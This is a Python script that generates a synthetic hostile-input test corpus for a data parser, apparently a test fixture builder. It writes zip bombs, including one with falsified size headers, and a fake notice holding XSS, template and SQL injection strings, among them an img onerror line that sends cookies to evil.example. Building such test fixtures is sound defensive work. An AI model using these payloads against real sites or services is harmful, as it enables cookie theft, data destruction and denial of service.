"""The synthetic part of the hostile-input corpus (tests/hostile/synthetic_*).

Every file here is made up to be rejected or to be stored as inert text; none
holds a figure presented as published. Hostile variants of real files (header
drift, other encodings, duplicated rows, bad counts) are built from
../shared in tests/test_hostile_input.py instead, so no published data is
copied into the repository.

`python -m tests.hostile.build` rewrites the files; a test checks that the
committed files are what this script makes.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2026, 1, 1, 0, 0, 0)  # so the zips are byte-for-byte reproducible

# Google's member name: the bomb poses as the table the parser wants.
GOOGLE_MEMBER = "google-government-removals/google-government-removal-requests.csv"
BOMB_BYTES = 4 * 1024 * 1024  # expands 1000-fold; tests lower MAX_MEMBER_BYTES below it
LIED_SIZE = 1000  # what the lying header declares


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, FIXED_TIME), data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def zip_bomb() -> bytes:
    """One member that inflates from a few kilobytes to 4 MiB of zeros."""
    return _zip({GOOGLE_MEMBER: b"0" * BOMB_BYTES})


def zip_bomb_lying_size() -> bytes:
    """The same bomb whose headers claim it inflates to only 1,000 bytes."""
    body = bytearray(zip_bomb())
    # Uncompressed size: offset 22 in the local header, 24 in the central directory entry.
    local = body.index(b"PK\x03\x04")
    central = body.index(b"PK\x01\x02")
    struct.pack_into("<I", body, local + 22, LIED_SIZE)
    struct.pack_into("<I", body, central + 24, LIED_SIZE)
    return bytes(body)


def zip_many_members() -> bytes:
    """60 tiny members (tests lower MAX_MEMBERS below that)."""
    return _zip({f"google-government-removals/part-{i:02d}.csv": b"a,b\n" for i in range(60)})


NOTICE_INJECTION = """\
# Notice <script>alert("title")</script>

Dear GitHub,

Please remove the following content: <script>alert(1)</script>

<img src=x onerror="fetch('https://evil.example/steal?c='+document.cookie)">

[click here](javascript:alert(1)) and [also here](https://evil.example/phish)

<iframe src="https://evil.example/frame"></iframe>
<a href="javascript:alert(document.domain)">link</a>
{{7*7}} ${7*7} <%= 7*7 %> '; DROP TABLE notice_rows; --

Sincerely,
Synthetic test notice (not a real notice)
"""


def notice_injection() -> bytes:
    """A made-up notice whose text is HTML, script and markdown-link injection attempts."""
    return NOTICE_INJECTION.encode("utf-8")


def utf16_truncated() -> bytes:
    """A UTF-16 byte-order mark and an odd number of bytes: cut off mid-character."""
    return "year,government\n2024,X\n".encode("utf-16") + b"A"


CORPUS = {
    "synthetic_zip_bomb.zip": zip_bomb,
    "synthetic_zip_bomb_lying_size.zip": zip_bomb_lying_size,
    "synthetic_zip_many_members.zip": zip_many_members,
    "synthetic_notice_injection.md": notice_injection,
    "synthetic_utf16_truncated.csv": utf16_truncated,
}


def main() -> int:
    for name, make in CORPUS.items():
        (HERE / name).write_bytes(make())
        print(f"wrote {HERE / name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
